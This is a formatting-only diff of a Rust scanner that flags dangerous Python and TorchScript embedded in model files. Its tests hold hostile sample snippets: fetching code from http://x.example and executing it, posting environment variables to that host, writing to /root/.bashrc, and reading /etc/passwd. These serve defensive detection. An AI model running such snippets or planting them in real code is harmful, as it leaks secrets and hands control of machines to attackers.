@@ -12,7 +12,8 @@ mod torchscript;
 mod walk;
 
 pub use rules::{
-    PYTHON_BACKDOOR, PYTHON_DANGEROUS_CALL, PYTHON_HIDDEN_CODE, PYTHON_UNPARSABLE, RULES, TORCHSCRIPT_OPERATOR,
+    PYTHON_BACKDOOR, PYTHON_DANGEROUS_CALL, PYTHON_HIDDEN_CODE, PYTHON_UNPARSABLE, RULES,
+    TORCHSCRIPT_OPERATOR,
 };
 
 use crate::Scan;
@@ -41,11 +42,17 @@ const OWN_STACK: usize = 64 << 20;
 pub fn inspect(code: &str, role: Role, place: &Location, scan: &mut Scan<'_>) {
     let read = code.get(..code.floor_char_boundary(SOURCE_BYTES)).unwrap_or(code);
     if read.len() < code.len() {
-        scan.gap(place.offset, format!("Python source longer than {SOURCE_BYTES} bytes was read only to there"));
+        scan.gap(
+            place.offset,
+            format!("Python source longer than {SOURCE_BYTES} bytes was read only to there"),
+        );
     }
     let levels = nesting::levels(read);
     if levels > nesting::MOST {
-        scan.gap(place.offset, format!("Python source nested deeper than {} levels was not parsed", nesting::MOST));
+        scan.gap(
+            place.offset,
+            format!("Python source nested deeper than {} levels was not parsed", nesting::MOST),
+        );
         let message = "Python source nested deeper than any person writes it";
         let finding = Finding::new(&PYTHON_UNPARSABLE, message).severity(Severity::Medium);
         scan.report(finding.located(place));
@@ -131,13 +138,21 @@ mod tests {
             "class A:\n    x = __import__('os').system('id')",
             "import os\nlist(map(os.system, ['id']))",
         ] {
-            assert!(worst(code, Role::Embedded) >= Some(Severity::High), "{code} {:?}", findings(code, Role::Embedded));
+            assert!(
+                worst(code, Role::Embedded) >= Some(Severity::High),
+                "{code} {:?}",
+                findings(code, Role::Embedded)
+            );
         }
     }
 
     #[test]
     fn arithmetic_in_an_embedded_text_is_silent() {
-        for code in ["lambda x: x * 2 + 1", "def f(x):\n    import tensorflow as tf\n    return tf.nn.relu(x)", "x.system_prompt"] {
+        for code in [
+            "lambda x: x * 2 + 1",
+            "def f(x):\n    import tensorflow as tf\n    return tf.nn.relu(x)",
+            "x.system_prompt",
+        ] {
             assert_eq!(findings(code, Role::Embedded), [], "{code}");
         }
     }
@@ -151,7 +166,12 @@ mod tests {
             "from urllib.request import urlopen\nc = urlopen('http://x.example').read().decode()\nexec(c)",
             "import marshal\nexec(marshal.loads(data))",
         ] {
-            assert_eq!(worst(code, Role::Module), Some(Severity::Critical), "{code} {:?}", findings(code, Role::Module));
+            assert_eq!(
+                worst(code, Role::Module),
+                Some(Severity::Critical),
+                "{code} {:?}",
+                findings(code, Role::Module)
+            );
         }
     }
 
@@ -165,7 +185,11 @@ mod tests {
             "import os\ntoken = os.environ.get('HF_TOKEN')\n",
             "import re\nP = re.compile('a')\nmodel.compile(optimizer='adam')\n",
         ] {
-            assert!(worst(code, Role::Module) < Some(Severity::High), "{code} {:?}", findings(code, Role::Module));
+            assert!(
+                worst(code, Role::Module) < Some(Severity::High),
+                "{code} {:?}",
+                findings(code, Role::Module)
+            );
         }
     }
 
@@ -178,7 +202,11 @@ mod tests {
             "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))",
             "open('/root/.bashrc', 'a').write('x')",
         ] {
-            assert!(worst(code, Role::Module) >= Some(Severity::High), "{code} {:?}", findings(code, Role::Module));
+            assert!(
+                worst(code, Role::Module) >= Some(Severity::High),
+                "{code} {:?}",
+                findings(code, Role::Module)
+            );
         }
     }
 
@@ -186,10 +214,24 @@ mod tests {
     fn torchscript_is_held_to_its_operators() {
         let fine = "class M(Module):\n  __parameters__ = [\"w\", ]\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    w = self.w\n    _0 = torch.add(x, CONSTANTS.c0, alpha=1)\n    _1 = ops.aten.mul(_0, annotate(List[int], [])) \n    return _0\n";
         assert_eq!(findings(fine, Role::TorchScript), []);
-        assert!(worst("def f(x: Tensor) -> Tensor:\n  __import__('os').system('id')\n  return x\n", Role::TorchScript) >= Some(Severity::High));
-        assert!(worst("def f(x: Tensor):\n  torch.save(x, \"/tmp/x\")\n", Role::TorchScript) >= Some(Severity::High));
-        assert!(worst("def f(x: Tensor):\n  return ops.aten.from_file(\"/etc/passwd\")\n", Role::TorchScript) >= Some(Severity::High));
-        assert_eq!(worst("def f(x: Tensor):\n  return ops.evil.run(x)\n", Role::TorchScript), Some(Severity::Medium));
+        assert!(
+            worst(
+                "def f(x: Tensor) -> Tensor:\n  __import__('os').system('id')\n  return x\n",
+                Role::TorchScript
+            ) >= Some(Severity::High)
+        );
+        assert!(
+            worst("def f(x: Tensor):\n  torch.save(x, \"/tmp/x\")\n", Role::TorchScript)
+                >= Some(Severity::High)
+        );
+        assert!(
+            worst("def f(x: Tensor):\n  return ops.aten.from_file(\"/etc/passwd\")\n", Role::TorchScript)
+                >= Some(Severity::High)
+        );
+        assert_eq!(
+            worst("def f(x: Tensor):\n  return ops.evil.run(x)\n", Role::TorchScript),
+            Some(Severity::Medium)
+        );
     }
 
     #[test]
